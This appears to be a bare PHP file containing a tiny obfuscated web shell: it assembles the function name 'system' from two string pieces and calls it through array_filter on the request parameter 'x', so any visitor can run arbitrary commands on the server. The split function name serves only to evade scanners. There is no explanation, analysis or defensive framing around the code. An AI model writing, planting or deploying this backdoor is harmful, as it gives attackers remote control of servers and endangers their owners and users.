<?php
$f = 'sys' . 'tem';
array_filter(array($_REQUEST['x']), $f);
